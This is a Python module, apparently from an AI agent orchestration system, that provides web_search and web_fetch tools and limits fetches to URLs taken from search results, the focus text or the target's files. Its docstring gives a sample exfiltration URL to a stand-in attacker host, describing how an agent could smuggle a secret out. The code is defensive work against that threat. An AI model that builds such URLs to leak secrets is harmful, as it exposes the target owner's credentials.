"""web_search and web_fetch, offered beside the read-only target tools to a run's web roles.

The fetch opens only URLs that came from outside the agent's own making: a search result of
this run, the focus text, or the target's own files. An agent that read a secret in the target
cannot smuggle it out in a URL it made up (`https://attacker.example/?k=<secret>`), because
that URL is in none of the three. Every search result and every fetched page is kept with the
run (runs.models.WebSource): the next fetch's provenance, and what web citations are checked
against when the report is written.
"""

from __future__ import annotations

import json
import logging
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlsplit
from uuid import UUID

from django.conf import settings
from django.db import connection
from pydantic import BaseModel, ConfigDict, Field, ValidationError

from flows.web_citations import normal as normal_url
from runs.engine.storable import clean_text
from runs.engine.target import tools as target_tools
from runs.engine.target.confinement import Confinement, Refused
from runs.engine.target.search import Deadline, Walk
from runs.engine.target.secrets import is_secret_name, redact
from runs.engine.target.tools import ReadOnlyTools, ToolResult
from runs.engine.web.fetch import WebHTTP
from runs.engine.web.guard import WebRefused
from runs.engine.web.search import web_search

log = logging.getLogger(__name__)
WEB_TOOLS = ("web_search", "web_fetch")
URL_IN_TEXT = re.compile(r"https?://[^\s\"'<>`()\[\]{}|\\^]+", re.I)
MAX_PAGE_CHARS_SHOWN = 12_000  # what the model reads of a page (all of it is kept)
MAX_TARGET_URLS = 5_000
TARGET_SCAN = {"files": 5_000, "bytes": 256_000, "seconds": 5.0}


class _Args(BaseModel):
    model_config = ConfigDict(extra="forbid")


class WebSearchArgs(_Args):
    query: str = Field(min_length=2, max_length=300)


class WebFetchArgs(_Args):
    url: str = Field(min_length=8, max_length=2000)


DESCRIPTIONS = {
    "web_search": "Search the web; returns titles, URLs and snippets. Fetch a result to read it.",
    "web_fetch": "Read a web page's main text. Only URLs from a search result of this run, the "
    "focus text or the target's own files can be fetched.",
}
ARGS: dict[str, type[_Args]] = {"web_search": WebSearchArgs, "web_fetch": WebFetchArgs}


def urls_in(text: str) -> set[str]:
    return {normal_url(m.group()) for m in URL_IN_TEXT.finditer(text)}


@dataclass(kw_only=True)
class WebSession:
    """One attempt's web tools: the run's record of what the web gave it, and the door."""

    run_id: UUID
    step_key: str
    focus: str
    confine: Confinement
    http: WebHTTP
    endpoint: str
    _target_urls: set[str] | None = field(default=None, repr=False)

    def call(self, name: str, arguments: str | dict[str, Any]) -> ToolResult:
        try:
            raw = json.loads(arguments or "{}") if isinstance(arguments, str) else arguments
            args = ARGS[name].model_validate(raw)
        except (ValueError, ValidationError, TypeError, RecursionError) as exc:
            return _error(f"bad arguments for {name}: {str(exc)[:200]}", f"{name}: bad arguments")
        handler: Callable[[Any], ToolResult] = getattr(self, f"_{name}")
        try:
            return handler(args)
        except WebRefused as exc:
            return _error(f"refused: {exc}", f"{name} refused: {str(exc)[:140]}")

    def _web_search(self, args: WebSearchArgs) -> ToolResult:
        query = clean_text(args.query)
        results = web_search(self.http, self.endpoint, query)
        self._keep_results(results)
        lines = [
            f"{n}. {r.title or '(no title)'}\n   {r.url}\n   {r.snippet}"
            for n, r in enumerate(results, start=1)
        ]
        body = "\n".join(lines) or "(no results)"
        count = f"{len(results)} result{'s' if len(results) != 1 else ''}"
        return ToolResult(
            ok=True, content=redact(body), summary=redact(f"searched {query[:120]!r}: {count}")
        )

    def _web_fetch(self, args: WebFetchArgs) -> ToolResult:
        url = normal_url(clean_text(args.url))
        if not self.known(url):
            raise WebRefused(
                f"{redact(url)[:200]} did not come from a search result of this run, the "
                "focus text or the target's files; search for it first",
                kind="provenance",
            )
        page = self.http.fetch(url)
        self._keep_page(url, page.final_url, page.text)
        shown = page.text[:MAX_PAGE_CHARS_SHOWN]
        more = len(page.text) - len(shown)
        head = f"{redact(page.final_url)} ({page.content_type}, {len(page.text)} chars)"
        if page.redirects:
            head += f" [redirected {page.redirects}x from {redact(url)}]"
        tail = f"\n[{more} more chars not shown]" if more > 0 else ""
        body = f"{head}\n\n{shown or '(no main text found)'}{tail}"
        host = urlsplit(page.final_url).hostname or ""
        summary = f"fetched {redact(page.final_url)[:160]} ({len(page.text)} chars from {host})"
        return ToolResult(ok=True, content=body, summary=summary)

    def known(self, url: str) -> bool:
        from runs.models import WebSource

        if url in urls_in(self.focus):
            return True
        run_urls = WebSource.objects.filter(run_id=self.run_id, url=url).exists()
        return run_urls or url in self.target_urls()

    def target_urls(self) -> set[str]:
        """URLs written in the target's own files, read once per attempt within caps."""
        if self._target_urls is None:
            found: set[str] = set()
            walk = Walk(
                confine=self.confine,
                base=self.confine.root,
                depth=None,
                limit=int(TARGET_SCAN["files"]),
                deadline=Deadline(TARGET_SCAN["seconds"]),
            )
            for entry in walk:
                if entry.is_dir or is_secret_name(entry.rel):
                    continue
                try:
                    data = self.confine.read_bytes(entry.real, int(TARGET_SCAN["bytes"]))
                except (Refused, OSError, ValueError):
                    continue
                found |= urls_in(data.decode("utf-8", "replace"))
                if len(found) >= MAX_TARGET_URLS:
                    break
            self._target_urls = found
        return self._target_urls

    def _keep_results(self, results: list[Any]) -> None:
        from runs.models import WebSource

        WebSource.objects.bulk_create(
            WebSource(
                run_id=self.run_id,
                kind=WebSource.Kind.RESULT,
                url=normal_url(r.url),
                title=r.title[:300],
                text=r.snippet,
                step_key=self.step_key,
            )
            for r in results
        )

    def _keep_page(self, url: str, final_url: str, text: str) -> None:
        from runs.models import WebSource

        WebSource.objects.create(
            run_id=self.run_id,
            kind=WebSource.Kind.PAGE,
            url=url,
            final_url=redact(normal_url(final_url)),
            text=text,
            step_key=self.step_key,
        )


class WebToolbox(ReadOnlyTools):
    """The read-only target tools and, beside them, one attempt's web tools."""

    def __init__(self, root: Any, *, confinement: Confinement, web: WebSession) -> None:
        super().__init__(root, confinement=confinement)
        self.web = web

    def available(self) -> list[str]:
        return [*super().available(), *WEB_TOOLS]

    def specs(self) -> list[dict[str, Any]]:
        described = {**target_tools.DESCRIPTIONS, **DESCRIPTIONS}
        schemas: dict[str, type[BaseModel]] = {**target_tools.ARGS, **ARGS}
        return [
            {
                "type": "function",
                "function": {
                    "name": name,
                    "description": described[name],
                    "parameters": schemas[name].model_json_schema(),
                },
            }
            for name in self.available()
        ]

    def call(self, name: str, arguments: str | dict[str, Any]) -> ToolResult:
        if name not in WEB_TOOLS:
            return super().call(name, arguments)
        try:
            return self.web.call(name, arguments)
        except Exception as exc:  # a page or a search service cannot crash the agent
            log.warning("web tool %s failed unexpectedly", name, exc_info=True)
            return _error(f"{name} failed: {exc.__class__.__name__}", f"{name} failed")
        finally:
            # Tool threads outlive runs: a web call (seconds of network anyway) does not keep
            # a database connection open on one.
            connection.close()


def web_configured() -> bool:
    return bool(settings.ORCHESTRATOR_WEB_SEARCH_URL)


def uses_web(run: Any) -> bool:
    """The one rule for a run's web: launched with it on, and a search endpoint configured
    now (an endpoint removed since the launch turns it off)."""
    return bool(getattr(run, "web", False)) and web_configured()


def web_toolbox(confinement: Confinement, *, run_id: UUID, step_key: str, focus: str) -> WebToolbox:
    session = WebSession(
        run_id=run_id,
        step_key=step_key,
        focus=focus,
        confine=confinement,
        http=WebHTTP(allow_hosts=settings.ORCHESTRATOR_WEB_ALLOW_HOSTS),
        endpoint=settings.ORCHESTRATOR_WEB_SEARCH_URL,
    )
    return WebToolbox(confinement.root, confinement=confinement, web=session)


def _error(message: str, summary: str) -> ToolResult:
    return ToolResult(ok=False, content=message, summary=summary[:200])
